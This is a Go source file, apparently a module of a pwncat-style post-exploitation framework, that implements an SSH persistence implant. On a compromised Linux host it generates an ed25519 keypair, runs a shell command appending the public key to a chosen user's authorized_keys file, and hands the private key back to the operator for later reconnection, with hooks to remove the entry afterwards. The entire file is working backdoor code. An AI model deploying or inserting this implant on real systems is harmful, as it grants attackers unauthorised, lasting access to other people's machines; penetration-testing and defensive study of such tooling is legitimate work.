package builtin

import (
	"crypto/ed25519"
	"crypto/rand"
	"encoding/pem"
	"fmt"
	"strings"
	"time"

	"golang.org/x/crypto/ssh"

	"pwncat/internal/errs"
	"pwncat/internal/module"
	"pwncat/internal/platform"
	"pwncat/internal/session"
)

// implantReconnect installs an SSH authorized_keys entry granting
// future REMOTE_RECONNECT access, the persistence mechanism of
// end-to-end scenario 2 (SPEC_FULL.md §4.6 ADD-1).
type implantReconnect struct{}

func (implantReconnect) Name() string              { return "implant.reconnect" }
func (implantReconnect) Platforms() []platform.Kind { return []platform.Kind{platform.Linux} }
func (implantReconnect) Arguments() []module.ArgSpec {
	return []module.ArgSpec{
		{Name: "user", Kind: module.KindString, Default: ""}, // "" = current user
	}
}

func (implantReconnect) Run(sess *session.Session, args module.Args, events chan<- module.Event) error {
	user := args.String("user")
	if user == "" {
		current, err := sess.Platform.CurrentUser()
		if err != nil {
			return err
		}
		user = current.Name
	}

	events <- module.Event{Status: &module.Status{Message: "generating REMOTE_RECONNECT keypair"}}
	_, priv, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		return fmt.Errorf("implant.reconnect: generate keypair: %w", err)
	}
	signer, err := ssh.NewSignerFromKey(priv)
	if err != nil {
		return fmt.Errorf("implant.reconnect: wrap signer: %w", err)
	}
	authLine := strings.TrimSpace(string(ssh.MarshalAuthorizedKey(signer.PublicKey())))
	authLine += " pwncat-remote-reconnect"

	homeDir, err := homeDirFor(sess, user)
	if err != nil {
		return err
	}
	authKeysPath := homeDir + "/.ssh/authorized_keys"

	cmd := fmt.Sprintf(
		"mkdir -p %s/.ssh && chmod 700 %s/.ssh && echo %s >> %s && chmod 600 %s",
		shQ(homeDir), shQ(homeDir), shQ(authLine), shQ(authKeysPath), shQ(authKeysPath),
	)
	_, status, err := sess.Platform.Run([]string{"sh", "-c", cmd}, nil, 10*time.Second)
	if err != nil {
		return err
	}
	if status != 0 {
		return &errs.PlatformError{Op: "implant.reconnect", Err: fmt.Errorf("authorized_keys append exited %d", status)}
	}

	privPEM, err := marshalEd25519PrivatePEM(priv)
	if err != nil {
		return fmt.Errorf("implant.reconnect: marshal private key: %w", err)
	}

	sess.AddImplant(session.Implant{
		Module:      "implant.reconnect",
		Description: fmt.Sprintf("SSH authorized_keys entry for %s", user),
		Remove: func() error {
			removeCmd := fmt.Sprintf("sed -i.bak '\\#%s#d' %s", strings.ReplaceAll(authLine, "#", `\#`), shQ(authKeysPath))
			_, _, err := sess.Platform.Run([]string{"sh", "-c", removeCmd}, nil, 10*time.Second)
			return err
		},
	})
	sess.AddTamper(session.Tamper{
		Module:  "implant.reconnect",
		Summary: fmt.Sprintf("appended authorized_keys entry for %s", user),
		Revert: func() error {
			removeCmd := fmt.Sprintf("sed -i.bak '\\#%s#d' %s", strings.ReplaceAll(authLine, "#", `\#`), shQ(authKeysPath))
			_, _, err := sess.Platform.Run([]string{"sh", "-c", removeCmd}, nil, 10*time.Second)
			return err
		},
	})

	events <- module.Event{Result: &module.Result{
		TitleText:       fmt.Sprintf("REMOTE_RECONNECT implant installed for %s", user),
		DescriptionText: "private key returned in result data, not persisted to the target",
		Cat:             "implant",
		Data:            map[string]any{"user": user, "private_key_pem": string(privPEM)},
	}}
	return nil
}

func homeDirFor(sess *session.Session, user string) (string, error) {
	users, err := sess.Platform.Users()
	if err != nil {
		return "", err
	}
	for _, u := range users {
		if u.Name == user {
			return u.HomeDir, nil
		}
	}
	return "", &errs.NotFoundError{Kind: "user", Name: user}
}

func marshalEd25519PrivatePEM(priv ed25519.PrivateKey) ([]byte, error) {
	block, err := ssh.MarshalPrivateKey(priv, "pwncat-remote-reconnect")
	if err != nil {
		return nil, err
	}
	return pem.EncodeToMemory(block), nil
}

func shQ(s string) string {
	return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'"
}
